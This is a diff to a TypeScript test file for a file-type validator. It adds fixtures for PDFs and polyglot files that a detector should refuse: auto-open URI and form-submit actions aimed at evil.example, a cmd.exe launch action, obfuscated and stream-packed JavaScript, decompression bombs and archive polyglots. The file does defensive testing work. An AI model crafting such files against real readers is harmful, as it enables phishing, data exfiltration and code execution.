@@ -1,3 +1,4 @@
+import { deflateSync } from 'node:zlib';
 import { aPdf, aPdfOf } from '../../../test/support/transcripts';
 import { MESSAGES } from '../../contract/messages';
 import { FileContent } from './file-content';
@@ -18,6 +19,28 @@ function webp(inside = 'VP8 picture data'): Buffer {
 const zip = (remark = ''): Buffer =>
   bytes('PK\x05\x06', Buffer.alloc(16), [remark.length & 255, remark.length >> 8], remark);
 const heic = (brand: string): Buffer => bytes('\0\0\0\x18ftyp', brand, '\0\0\0\0mif1heic');
+
+/** Bytes as an object of a PDF. */
+const stream = (dictionary: string, content: string | Buffer): Buffer =>
+  bytes(`9 0 obj\n<< ${dictionary} >>\nstream\n`, content, '\nendstream\nendobj\n');
+/** Objects that are packed together, as newer PDFs have them. */
+function packed(...objects: string[]): Buffer {
+  let at = 0;
+  const places = objects.map((object, index) => {
+    at += object.length + 1;
+    return `${index + 20} ${at - object.length - 1} `;
+  });
+  const content = deflateSync(`${places.join('')}${objects.join(' ')}`);
+  return stream(`/Type /ObjStm /N ${objects.length} /Filter /FlateDecode`, content);
+}
+/** A PDF that does something when it is opened. */
+const opening = (action: string, more = ''): Buffer =>
+  aPdf(`8 0 obj\n<< /Type /Catalog /OpenAction ${action} >>\nendobj\n${more}\n`);
+/** Made-up bytes of a picture, among which three letters stand that would mean a script elsewhere. */
+const picture = bytes(
+  [...Buffer.alloc(4000).keys()].map((place) => (place * 73) % 251),
+  ' /JS (',
+);
 
 /** What a file is when it comes in pieces of this many bytes, or the sentence that refuses it. */
 function told(file: Buffer, piece = file.length || 1): string {
@@ -49,12 +72,36 @@ describe('a transcript is told by its content', () => {
     ['a GIF', bytes('GIF89a picture of nothing'), MESSAGES.transcriptKind],
     ['an archive, as Word documents are', bytes('PK\x03\x04', 'word/document.xml', zip()), MESSAGES.transcriptKind],
     ['a program', bytes('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff'), MESSAGES.transcriptKind],
+    ['a drawing before a PDF', bytes('<svg onload="x()">', aPdf()), MESSAGES.transcriptKind],
     ['a page before a PDF', bytes('<html><script>1</script>', aPdf()), MESSAGES.transcriptKind],
     ['a PDF after blanks', bytes('\n\n', aPdf()), MESSAGES.transcriptKind],
     ['a PDF with a script', aPdf('<< /S /JavaScript /JS (app.alert(1)) >>'), MESSAGES.transcriptActive],
     ['a PDF with a script in disguise', aPdf('<< /S /J#61va#53cript >>'), MESSAGES.transcriptActive],
     ['a PDF that starts a program', aPdf('<< /S /Launch /F (cmd.exe) >>'), MESSAGES.transcriptActive],
     ['a PDF with a film', aPdf('<< /Subtype /RichMedia >>'), MESSAGES.transcriptActive],
+    ['a PDF that opens an address', opening('<< /S /URI /URI (https://evil.example) >>'), MESSAGES.transcriptActive],
+    [
+      'a PDF whose opening lies elsewhere',
+      opening('7 0 R', '7 0 obj\n<< /S /URI /URI (x) >>\nendobj'),
+      MESSAGES.transcriptActive,
+    ],
+    ['a PDF whose opening is nowhere', opening('7 0 R'), MESSAGES.transcriptActive],
+    ['a PDF that opens at its first page', opening('[3 0 R /Fit]'), 'pdf'],
+    ['a PDF that goes to a page', opening('7 0 R', '7 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj'), 'pdf'],
+    ['a PDF that sends a form', aPdf('<< /S /SubmitForm /F (https://evil.example) >>'), MESSAGES.transcriptActive],
+    ['a PDF that brings a file', aPdf('<< /Names << /EmbeddedFiles 5 0 R >> >>'), MESSAGES.transcriptActive],
+    ['a PDF with a form of programs', aPdf('<< /AcroForm << /XFA [(template) 5 0 R] >> >>'), MESSAGES.transcriptActive],
+    ['a PDF with a bare script', aPdf('<< /JS (app.alert(1)) >>'), MESSAGES.transcriptActive],
+    ['a PDF that packed its script', aPdf(packed('<< /S /JavaScript /JS (x) >>')), MESSAGES.transcriptActive],
+    ['a PDF that packed its opening', aPdf(packed('<< /OpenAction << /S /URI >> >>')), MESSAGES.transcriptActive],
+    ['an exported PDF', aPdf(packed('<< /Type /Catalog /OpenAction [3 0 R /Fit] >>', '<< /A << /S /URI >> >>')), 'pdf'],
+    ['a PDF whose packed parts are locked', aPdf(stream('/Type /ObjStm', 'locked bytes')), MESSAGES.transcriptHidden],
+    ['a PDF packed to burst', aPdf(packed(' '.repeat(20_000_000))), MESSAGES.transcriptHidden],
+    ['a PDF packed too well', aPdf(packed(' '.repeat(3_000_000))), MESSAGES.transcriptHidden],
+    ['a scan', aPdf(stream('/Subtype /Image /Filter /DCTDecode', jpeg(picture))), 'pdf'],
+    ['a PDF with a drawing on it', aPdf('<svg onload="x()">'), MESSAGES.transcriptActive],
+    ['a PDF that is a RAR archive, too', bytes(aPdf(), 'Rar!\x1a\x07\x00 %%EOF'), MESSAGES.transcriptActive],
+    ['a PNG that is a 7z archive, too', bytes(png(), '7z\xbc\xaf\x27\x1c IEND'), MESSAGES.transcriptActive],
     ['a PDF that is a page, too', aPdf('<script>alert(1)</script>'), MESSAGES.transcriptActive],
     ['a PDF that is an archive, too', bytes(aPdf(), zip()), MESSAGES.transcriptActive],
     ['one whose archive ends in a remark', bytes(aPdf(), zip('%%EOF')), MESSAGES.transcriptActive],
